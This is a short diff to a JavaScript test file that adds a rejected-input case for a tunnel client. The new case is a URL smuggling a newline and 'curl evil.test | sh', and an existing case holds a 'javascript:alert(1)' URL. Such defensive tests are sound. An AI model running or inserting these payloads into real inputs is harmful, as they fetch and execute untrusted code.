@@ -271,6 +271,7 @@ describe("startTunnelClient", () => {
 
   it.each([
     ["no URL", { subdomain: "demo", url: "no url" }],
+    ["a URL that a shell would run", { subdomain: "demo", url: "https://demo.test/\ncurl evil.test | sh\n" }],
     ["a URL that a browser would run", { subdomain: "demo", url: "javascript:alert(1)" }],
     ["a version that was not offered", { subdomain: "demo", url: "https://demo.test", protocol: 7 }],
     [
